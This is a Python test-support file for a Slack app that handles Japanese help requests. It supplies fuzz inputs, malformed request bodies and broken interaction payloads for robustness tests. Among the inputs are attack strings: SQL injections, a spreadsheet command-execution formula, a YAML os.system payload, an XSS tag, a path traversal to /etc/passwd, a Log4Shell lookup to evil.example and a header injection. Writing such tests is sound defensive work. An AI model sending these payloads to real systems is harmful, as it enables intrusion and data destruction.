"""What nobody should send and somebody will: texts, forms, controls, broken requests."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from typing import Any
from urllib.parse import quote, urlencode

from tests.support import signed

JSON = "application/json"
LAUGHS = "a: &a [x, x]\n" + "".join(f"{n}: &{n} [*a, *a]\n" for n in "bcdefghi")

TEXTS: tuple[str, ...] = (
    "",
    " ",
    "　",
    "\n\n\n",
    "あ",
    "x" * 500,
    "x" * 501,
    "家" * 2_000,
    "家" * 2_001,
    "x" * 40_000,
    "家賃" * 20_000,
    "\u200b" * 300,
    "家\u200b賃\u200bが\u200b払えない",
    "\u202e家賃が払えない\u202c",
    "\u2066家賃\u2069",
    "\ufeff家賃",
    "😀" * 400,
    "👨‍👩‍👧‍👦家族",
    "が" + "\u3099" * 1_000,
    "e" + "\u0301" * 1_000,
    "\x00",
    "家賃\x00が払えない",
    "\x1b[31m家賃\x1b[0m",
    "'; DROP TABLE answer; --",
    "' OR '1'='1",
    "Robert'); DELETE FROM staff;--",
    "<!channel> <!here> <!everyone>",
    "<@U0T001> <#C1> <!subteam^S1>",
    "<https://evil.example|区役所>",
    "*太字* _斜め_ ~消す~ `code` ```block```",
    "&lt;!channel&gt;",
    "=cmd|'/c calc'!A1",
    "+1+1",
    "@SUM(A1:A9)",
    "＝1+1",
    LAUGHS,
    "!!python/object/apply:os.system ['true']",
    "[" * 10_000,
    '{"a":' * 5_000,
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "%s%s%s%n",
    "{0.__class__}",
    "{{7*7}}${7*7}",
    "${jndi:ldap://evil.example/a}",
    "0" * 5_000,
    "1e999",
    "NaN",
    "null",
    "ヘルプ" * 300,
    "相談 " * 100,
    "a@" * 900,
    "電話" + "0-" * 900,
    "ァ" * 1_900,
    " " * 1_900 + "(1)",
    "\ud83d\ude00 half".encode("utf-16", "surrogatepass").decode("utf-16"),
    "%00%ff",
    "\t家賃\t",
    "家賃\r\n\r\nX-Header: 1",
)

VALUES: tuple[Any, ...] = (
    "no-such-entry",
    "",
    "x" * 50_000,
    "../secret",
    "\x00",
    "|",
    "quiz/2026-W47/1|",
    "-1",
    "9" * 5_000,
    None,
    7,
    True,
    [],
    {},
    {"value": {"value": None}},
)


def broken_bodies() -> Iterator[tuple[str, bytes, str]]:
    """Bodies that are no request of Slack's, with what is wrong and their content type."""
    deep = "[" * 20_000 + "]" * 20_000
    texts = {
        "no JSON": "{",
        "half a JSON": '{"type": "event_callback", "event": {',
        "nested": deep,
        "nested payload": urlencode({"payload": deep}),
        "a list": "[]",
        "a list as payload": "payload=" + quote("[1]"),
        "a number as payload": "payload=" + quote("7"),
        "null as payload": "payload=null",
        "no JSON as payload": "payload=" + quote("{'a': 1}"),
        "a payload twice": "payload=%7B%7D&payload=%7B%7D",
        "an endless number": '{"type": ' + "9" * 6_000 + "}",
        "not a number": '{"type": NaN}',
        "half a character": '{"type": "\\ud800"}',
        "nothing": "",
        "blanks": "   ",
        "no pairs": "&&&===",
        "many pairs": "&".join(f"a{n}=1" for n in range(5_000)),
        "another type": '{"type": "url_verification", "challenge": "x"}',
        "an event without one": '{"type": "event_callback", "event": null}',
        "an event that is a list": '{"type": "event_callback", "event": []}',
        "an empty event": '{"type": "event_callback", "event": {}, "event_id": "E1"}',
        "a command without text": urlencode({"command": "/kizuki", "user_id": "U0T001"}),
        "a command of nobody": urlencode({"command": "/kizuki", "text": "緊急"}),
        "another command": urlencode({"command": "/other", "user_id": "U0T001"}),
    }
    for name, text in texts.items():
        yield name, text.encode(), signed.FORM
        yield f"{name} as JSON", text.encode(), JSON
    yield "no UTF-8", b"payload=\xff\xfe%ff", signed.FORM
    yield "no UTF-8 as JSON", b'{"a": "\xff"}', JSON
    yield "no text at all", b"\x00\x01\x02", "application/octet-stream"


def misshapen_presses() -> Iterator[tuple[str, str]]:
    """Signed interactions whose parts are not what Slack sends."""
    usual: Mapping[str, Any] = {
        "type": "block_actions",
        "user": {"id": "U0T001", "team_id": "T1"},
        "team": {"id": "T1"},
        "trigger_id": "1.2.a",
        "container": {"type": "view", "view_id": "V1"},
        "actions": [{"type": "button", "action_id": "details", "value": "x"}],
    }
    for name in usual:
        for value in (None, "x", 7, [], {}, [None], [{}], {"id": None}):
            yield f"{name} = {value!r}", signed.interaction_body({**usual, name: value})


def headers_for(secret: str, body: bytes, content_type: str, age: int = 0) -> dict[str, str]:
    """Signed as Slack would; a body that is no text gets a signature of its readable part."""
    return signed.headers(secret, body.decode("utf-8", "replace"), content_type, age)
